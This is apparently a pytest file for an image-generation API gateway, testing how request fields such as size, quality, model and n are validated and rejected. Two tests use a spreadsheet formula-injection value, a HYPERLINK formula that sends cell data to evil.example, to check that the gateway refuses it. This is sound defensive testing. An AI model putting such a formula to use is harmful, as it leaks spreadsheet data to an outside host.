"""Request rules for /v1/images/generations (SPEC §2): every bad field named, nothing changed."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import httpx
import openai
import pytest

from gateway.config import key_digest, parse_settings
from gateway.errors import InvalidRequest, MissingParameter
from gateway.pipeline.request import EDITS, ImageRequest, form_fields, validate_image_request
from tests.support import procs

SETTINGS = parse_settings({}, env={})  # the five default models, default_model gpt-image-1
P = {"prompt": "a red fox in snow"}


def body(**fields: Any) -> dict[str, Any]:
    return {**P, **fields}


INVALID: list[tuple[object, type[InvalidRequest], str | None]] = [
    # the body itself
    ([P], InvalidRequest, None),
    ("a red fox", InvalidRequest, None),
    (None, InvalidRequest, None),
    # prompt
    ({}, MissingParameter, "prompt"),
    ({"prompt": None}, MissingParameter, "prompt"),
    ({"prompt": ""}, InvalidRequest, "prompt"),
    ({"prompt": 42}, InvalidRequest, "prompt"),
    ({"prompt": ["a", "b"]}, InvalidRequest, "prompt"),
    ({"prompt": "x" * 32001}, InvalidRequest, "prompt"),
    ({"prompt": "x" * 32001, "model": "gpt-image-2"}, InvalidRequest, "prompt"),
    ({"prompt": "x" * 1001, "model": "dall-e-2"}, InvalidRequest, "prompt"),
    ({"prompt": "x" * 4001, "model": "dall-e-3"}, InvalidRequest, "prompt"),
    # model
    (body(model="dall-e-4"), InvalidRequest, "model"),
    (body(model=""), InvalidRequest, "model"),
    (body(model="GPT-IMAGE-1"), InvalidRequest, "model"),
    (body(model=1), InvalidRequest, "model"),
    (body(model=["gpt-image-1"]), InvalidRequest, "model"),
    # n
    (body(n=0), InvalidRequest, "n"),
    (body(n=11), InvalidRequest, "n"),
    (body(n=-1), InvalidRequest, "n"),
    (body(n=1.5), InvalidRequest, "n"),
    (body(n=2.0), InvalidRequest, "n"),
    (body(n=True), InvalidRequest, "n"),
    (body(n="2"), InvalidRequest, "n"),
    (body(n=2, model="dall-e-3"), InvalidRequest, "n"),
    # size
    (body(size="2048x2048"), InvalidRequest, "size"),
    (body(size="1792x1024"), InvalidRequest, "size"),
    (body(size="256x256", model="gpt-image-1.5"), InvalidRequest, "size"),
    (body(size="auto", model="dall-e-2"), InvalidRequest, "size"),
    (body(size="1536x1024", model="dall-e-3"), InvalidRequest, "size"),
    (body(size=1024), InvalidRequest, "size"),
    (body(size="3856x1024", model="gpt-image-2"), InvalidRequest, "size"),  # longest edge > 3840
    (body(size="1000x1000", model="gpt-image-2"), InvalidRequest, "size"),  # not multiples of 16
    (body(size="4000x1000", model="gpt-image-2"), InvalidRequest, "size"),  # edge and 4:1
    (body(size="3840x1264", model="gpt-image-2"), InvalidRequest, "size"),  # just beyond 3:1
    (body(size="1008x3072", model="gpt-image-2"), InvalidRequest, "size"),  # just beyond 1:3
    (body(size="0x1024", model="gpt-image-2"), InvalidRequest, "size"),
    (body(size="01024x1024", model="gpt-image-2"), InvalidRequest, "size"),
    (body(size="2048X1152", model="gpt-image-2"), InvalidRequest, "size"),
    (body(size="2048x1152 ", model="gpt-image-2"), InvalidRequest, "size"),
    (body(size="-16x32", model="gpt-image-2"), InvalidRequest, "size"),
    (body(size="big", model="gpt-image-2"), InvalidRequest, "size"),
    (body(size="\uff12048x1152", model="gpt-image-2"), InvalidRequest, "size"),  # fullwidth digit
    # quality
    (body(quality="hd"), InvalidRequest, "quality"),
    (body(quality="standard", model="gpt-image-2"), InvalidRequest, "quality"),
    (body(quality="hd", model="dall-e-2"), InvalidRequest, "quality"),
    (body(quality="high", model="dall-e-3"), InvalidRequest, "quality"),
    (body(quality=1), InvalidRequest, "quality"),
    # GPT-image-only fields
    (body(stream=True, model="dall-e-3"), InvalidRequest, "stream"),
    (body(stream="true"), InvalidRequest, "stream"),
    (body(stream=1), InvalidRequest, "stream"),
    (body(partial_images=2), InvalidRequest, "partial_images"),
    (body(partial_images=2, stream=False), InvalidRequest, "partial_images"),
    (body(partial_images=4, stream=True), InvalidRequest, "partial_images"),
    (body(partial_images=-1, stream=True), InvalidRequest, "partial_images"),
    (body(partial_images=1, model="dall-e-2"), InvalidRequest, "partial_images"),
    (body(background="transparent", output_format="jpeg"), InvalidRequest, "background"),
    (body(background="clear"), InvalidRequest, "background"),
    (body(background="auto", model="dall-e-3"), InvalidRequest, "background"),
    (body(moderation="high"), InvalidRequest, "moderation"),
    (body(moderation="low", model="dall-e-2"), InvalidRequest, "moderation"),
    (body(output_format="gif"), InvalidRequest, "output_format"),
    (body(output_format="png", model="dall-e-3"), InvalidRequest, "output_format"),
    (body(output_compression=101), InvalidRequest, "output_compression"),
    (body(output_compression=-1), InvalidRequest, "output_compression"),
    (body(output_compression=50.5), InvalidRequest, "output_compression"),
    (body(output_compression=50, model="dall-e-2"), InvalidRequest, "output_compression"),
    # dall-e-only fields
    (body(response_format="url"), InvalidRequest, "response_format"),
    (body(response_format="b64_json", model="gpt-image-2"), InvalidRequest, "response_format"),
    (body(response_format="png", model="dall-e-2"), InvalidRequest, "response_format"),
    (body(style="vivid", model="dall-e-2"), InvalidRequest, "style"),
    (body(style="vivid"), InvalidRequest, "style"),
    (body(style="bold", model="dall-e-3"), InvalidRequest, "style"),
    (body(user=42), InvalidRequest, "user"),
    (body(user={"id": "u1"}), InvalidRequest, "user"),
]


@pytest.mark.parametrize(("payload", "error", "param"), INVALID)
def test_invalid_bodies_name_the_field(payload: object, error: type[InvalidRequest],
                                       param: str | None) -> None:
    with pytest.raises(InvalidRequest) as caught:
        validate_image_request(payload, SETTINGS)
    exc = caught.value
    assert type(exc) is error
    assert exc.param == param
    assert exc.status == 400
    assert exc.code == ("missing_required_parameter" if error is MissingParameter else "invalid_value")
    assert exc.message


def _req(model: str = "gpt-image-1", **fields: Any) -> ImageRequest:
    family = SETTINGS.models[model].family
    defaults: dict[str, Any] = dict(model=model, family=family, prompt=P["prompt"], n=1, size=None,
                                    quality=None, stream=False, partial_images=0, response_format=None,
                                    output_format=None, model_defaulted=False)
    return ImageRequest(**{**defaults, **fields})


VALID: list[tuple[dict[str, Any], ImageRequest]] = [
    (P, _req(model_defaulted=True)),
    (body(model=None), _req(model_defaulted=True)),
    (body(model="gpt-image-1", n=10, size="1536x1024", quality="high"),
     _req(n=10, size="1536x1024", quality="high")),
    (body(model="gpt-image-1.5", size="auto", quality="auto"),
     _req("gpt-image-1.5", size="auto", quality="auto")),
    (body(stream=True, partial_images=3), _req(stream=True, partial_images=3, model_defaulted=True)),
    (body(stream=False), _req(model_defaulted=True)),
    (body(partial_images=0), _req(model_defaulted=True)),  # the default needs no stream
    (body(background="transparent"), _req(model_defaulted=True)),  # output_format defaults to png
    (body(background="transparent", output_format="webp", output_compression=0),
     _req(output_format="webp", model_defaulted=True)),
    (body(background="opaque", output_format="jpeg", output_compression=100, moderation="low"),
     _req(output_format="jpeg", model_defaulted=True)),
    (body(n=None, size=None, quality=None, stream=None, style=None, response_format=None, user=None),
     _req(model_defaulted=True)),
    (body(user="u-1", metadata={"x": 1}, unknown_field=[1, 2]), _req(model_defaulted=True)),
    (body(prompt="x" * 32000), _req(prompt="x" * 32000, model_defaulted=True)),
    (body(model="gpt-image-2", size="1024x1536"), _req("gpt-image-2", size="1024x1536")),
    (body(model="gpt-image-2", size="2048x1152"), _req("gpt-image-2", size="2048x1152")),
    (body(model="gpt-image-2", size="3840x1280"), _req("gpt-image-2", size="3840x1280")),  # exactly 3:1
    (body(model="gpt-image-2", size="1280x3840"), _req("gpt-image-2", size="1280x3840")),  # exactly 1:3
    (body(model="gpt-image-2", size="3840x3840"), _req("gpt-image-2", size="3840x3840")),  # edge exactly 3840
    (body(model="gpt-image-2", size="16x16"), _req("gpt-image-2", size="16x16")),  # smallest free size
    (body(model="gpt-image-2", size="auto"), _req("gpt-image-2", size="auto")),
    (body(model="dall-e-2", n=10, size="256x256", quality="standard", response_format="b64_json"),
     _req("dall-e-2", n=10, size="256x256", quality="standard", response_format="b64_json")),
    (body(model="dall-e-2", prompt="x" * 1000), _req("dall-e-2", prompt="x" * 1000)),
    (body(model="dall-e-3", n=1, size="1792x1024", quality="hd", style="natural", response_format="url"),
     _req("dall-e-3", size="1792x1024", quality="hd", response_format="url")),
    (body(model="dall-e-3", size="1024x1792", style="vivid", prompt="x" * 4000),
     _req("dall-e-3", size="1024x1792", prompt="x" * 4000)),
]


@pytest.mark.parametrize(("payload", "expected"), VALID)
def test_valid_bodies(payload: dict[str, Any], expected: ImageRequest) -> None:
    assert validate_image_request(payload, SETTINGS) == expected


def test_body_is_left_unchanged() -> None:
    payload = body(model="gpt-image-2", n=None, size="2048x1152", stream=True, partial_images=2,
                   extra={"nested": [1, 2]})
    before = copy.deepcopy(payload)
    validate_image_request(payload, SETTINGS)
    assert payload == before
    assert list(payload) == list(before)


def test_first_error_follows_the_fixed_order_not_the_body_order() -> None:
    payload = {"style": "bold", "quality": "ultra", "size": "1x1", "n": 0, "model": "nope", "prompt": ""}
    order = ["prompt", "model", "n", "size", "quality", "style"]
    for param in order:
        with pytest.raises(InvalidRequest) as caught:
            validate_image_request(payload, SETTINGS)
        assert caught.value.param == param
        fixes = {"prompt": "ok", "model": "gpt-image-1", "n": 1, "size": "auto", "quality": "low"}
        payload[param] = fixes.get(param)
    assert validate_image_request(payload, SETTINGS).model == "gpt-image-1"  # style null: absent


def test_messages_read_like_openai() -> None:
    def message(payload: object) -> str:
        with pytest.raises(InvalidRequest) as caught:
            validate_image_request(payload, SETTINGS)
        return caught.value.message

    assert message(body(size="2048x2048")) == (
        "Invalid value: '2048x2048'. "
        "Supported values are: '1024x1024', '1536x1024', '1024x1536', and 'auto'.")
    assert message(body(model="dall-e-3", quality="low")) == (
        "Invalid value: 'low'. Supported values are: 'standard' and 'hd'.")
    assert message({}) == "Missing required parameter: 'prompt'."
    assert message(body(n=1.5)) == (
        "Invalid type for 'n': expected an integer, but got a decimal number instead.")
    assert message(body(n=11)) == (
        "Invalid 'n': integer above maximum value. Expected a value <= 10, but got 11 instead.")
    assert message(body(model="dall-e-3", stream=True)) == "'stream' is only supported for GPT image models."
    assert message(body(model="gpt-image-2", size="3856x1024")) == (
        "Invalid value: '3856x1024'. The longest edge must be at most 3840 pixels.")
    assert message(body(model="gpt-image-2", size="1000x1000")) == (
        "Invalid value: '1000x1000'. Width and height must both be multiples of 16.")
    assert message(body(model="gpt-image-2", size="3840x1264")) == (
        "Invalid value: '3840x1264'. The aspect ratio must be between 1:3 and 3:1.")
    assert "'dall-e-2', and 'dall-e-3'." in message(body(model="dall-e-4"))


def test_free_sizes_are_only_for_gpt_image_2() -> None:
    with pytest.raises(InvalidRequest) as caught:
        validate_image_request(body(model="gpt-image-1", size="2048x1152"), SETTINGS)
    assert caught.value.param == "size"


def test_without_default_model_the_model_is_required() -> None:
    settings = parse_settings({"default_model": None}, env={})
    with pytest.raises(MissingParameter) as caught:
        validate_image_request(P, settings)
    assert caught.value.param == "model"
    assert caught.value.code == "missing_required_parameter"
    assert validate_image_request(body(model="dall-e-2"), settings).model_defaulted is False


def test_configured_default_model_is_used() -> None:
    settings = parse_settings({"default_model": "dall-e-3"}, env={})
    request = validate_image_request(body(size="1792x1024"), settings)
    assert (request.model, request.family, request.model_defaulted) == ("dall-e-3", "dall-e-3", True)


def test_only_enabled_models_pass() -> None:
    settings = parse_settings({"models": {"gpt-image-1": {}}}, env={})
    with pytest.raises(InvalidRequest) as caught:
        validate_image_request(body(model="gpt-image-2"), settings)
    assert caught.value.param == "model"


def test_unknown_family_gets_minimal_checks() -> None:
    settings = parse_settings({"models": {"flux-pro": {}}}, env={})
    request = validate_image_request(
        body(model="flux-pro", size="777x333", quality="ultra", stream=True, style="vivid",
             response_format="url", prompt="x" * 32000), settings)
    assert (request.family, request.size, request.quality, request.stream) == (None, "777x333", "ultra", True)
    cases: list[tuple[dict[str, Any], str]] = [
        ({"n": 11}, "n"), ({"size": 512}, "size"), ({"prompt": "x" * 32001}, "prompt"),
        ({"output_format": "gif"}, "output_format"),
    ]
    for bad, param in cases:
        with pytest.raises(InvalidRequest) as caught:
            validate_image_request(body(model="flux-pro", **bad), settings)
        assert caught.value.param == param


@pytest.mark.parametrize(("field", "value"), [
    ("size", '=HYPERLINK("https://evil.example/?"&A1,"x")'),
    ("size", "1024X1024"),
    ("size", "a" * 17),
    ("size", "1024x1024\n"),
    ("quality", "-2+3"),
    ("quality", "@sum"),
    ("quality", "q" * 33),
    ("quality", "ultra\t"),
    ("quality", "x" * 500_000),
])
def test_recorded_fields_of_an_unknown_family_model_have_a_shape(field: str, value: str) -> None:
    settings = parse_settings({"models": {"flux-pro": {}}}, env={})
    with pytest.raises(InvalidRequest) as caught:
        validate_image_request(body(model="flux-pro", **{field: value}), settings)
    assert caught.value.param == field and caught.value.status == 400


def test_recorded_fields_of_an_unknown_family_model_at_their_longest_pass() -> None:
    settings = parse_settings({"models": {"flux-pro": {}}}, env={})
    request = validate_image_request(body(model="flux-pro", size="9" * 16, quality="very_high-2" + "q" * 21),
                                     settings)
    assert (request.size, len(request.quality or "")) == ("9" * 16, 32)


def test_family_comes_from_config_not_the_name() -> None:
    settings = parse_settings({"models": {"house-painter": {"family": "dall-e-3"}}}, env={})
    with pytest.raises(InvalidRequest) as caught:
        validate_image_request(body(model="house-painter", n=2), settings)
    assert caught.value.param == "n"



def test_a_running_gateway_refuses_a_formula_size_for_an_unknown_family_model(redis_url: str,
                                                                              tmp_path: Path) -> None:
    key = "sk-igw-request-shape-0123456789"
    with procs.running(procs.start_fake_upstream("tt-shape")) as fake:
        env = {"TTAPI_API_KEY": "tt-shape", "UPSTREAM_BASE_URL": fake.url, "REDIS_URL": redis_url}
        config = {"models": {"flux-pro": {}}, "default_model": "flux-pro",
                  "keys": [{"user": "alice", "sha256": key_digest(key)}]}
        with procs.running(procs.start_gateway(config, env, tmp=tmp_path)) as gw:
            client = openai.OpenAI(api_key=key, base_url=gw.url + "/v1", max_retries=0)
            with pytest.raises(openai.BadRequestError) as caught:
                client.images.generate(model="flux-pro", prompt="an invoice",
                                       size='=HYPERLINK("https://evil.example","x")')  # type: ignore[arg-type]
        assert caught.value.status_code == 400
        assert caught.value.body["param"] == "size"  # type: ignore[index]
        assert httpx.get(fake.url + "/_fake/stats").json()["requests"] == 0


# --- edits: form fields are strings, then the same rules ----------------------------------------------


def test_form_fields_become_the_json_types_the_rules_check() -> None:
    values = form_fields([("prompt", "p"), ("n", "3"), ("stream", "TRUE"), ("partial_images", "2"),
                          ("output_compression", "0"), ("size", "1024x1024"), ("extra", "kept")])
    assert values == {"prompt": "p", "n": 3, "stream": True, "partial_images": 2, "output_compression": 0,
                      "size": "1024x1024", "extra": "kept"}
    request = validate_image_request(values, SETTINGS, route=EDITS, input_images=2)
    assert (request.n, request.stream, request.partial_images, request.input_images) == (3, True, 2, 2)


@pytest.mark.parametrize(("pairs", "param"), [
    ([("n", "2.0")], "n"), ([("n", "")], "n"), ([("n", "1e3")], "n"), ([("stream", "yes")], "stream"),
    ([("stream", "1")], "stream"), ([("partial_images", "one")], "partial_images"),
    ([("model", "gpt-image-1"), ("model", "gpt-image-1")], "model"), ([("n", "1"), ("N", "2")], "N"),
])
def test_bad_form_values_and_repeated_fields_are_refused(pairs: list[tuple[str, str]], param: str) -> None:
    with pytest.raises(InvalidRequest) as caught:
        form_fields([("prompt", "p"), *pairs])
    assert caught.value.param == param


def test_edits_take_gpt_image_and_dall_e_2_only_and_input_fidelity_for_gpt_image() -> None:
    for model in ("gpt-image-1", "gpt-image-2", "dall-e-2"):
        assert validate_image_request(body(model=model), SETTINGS, route=EDITS).model == model
    cases = [(body(model="dall-e-3"), "model"), (body(input_fidelity="medium"), "input_fidelity"),
             (body(model="dall-e-2", input_fidelity="high"), "input_fidelity"), (body(n=11), "n")]
    for bad, param in cases:
        with pytest.raises(InvalidRequest) as caught:
            validate_image_request(bad, SETTINGS, route=EDITS)
        assert caught.value.param == param
    # Generations know no input_fidelity: passed upstream unchecked, as any unknown field.
    assert validate_image_request(body(input_fidelity="medium"), SETTINGS).model == "gpt-image-1"
